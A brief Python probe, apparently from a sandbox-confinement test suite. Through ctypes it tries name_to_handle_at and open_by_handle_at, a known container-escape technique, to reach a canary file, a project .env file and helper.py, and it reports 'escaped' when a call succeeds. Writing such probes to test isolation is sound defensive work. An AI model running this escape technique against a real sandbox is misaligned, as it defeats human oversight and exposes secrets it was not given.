# Attempts: hold files by handles instead of names.

def attack(world):
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    for path in (world["canary"], os.path.join(world["project"], ".env"), os.path.join(world["project"], "helper.py"), "."):
        handle = (ctypes.c_uint32 * 40)(128, 0)
        mount = ctypes.c_int(0)
        for flags in (0, 0x400, 0x200):
            if libc.name_to_handle_at(-100, os.fsencode(path), handle, ctypes.byref(mount), flags) == 0:
                done.append((path, flags, mount.value))
            elif ctypes.get_errno() not in (1, 38):
                done.append((path, ctypes.get_errno()))
        if libc.open_by_handle_at(-100, handle, 0) >= 0:
            done.append(path)
    if done:
        return "escaped", repr(done)[:300]
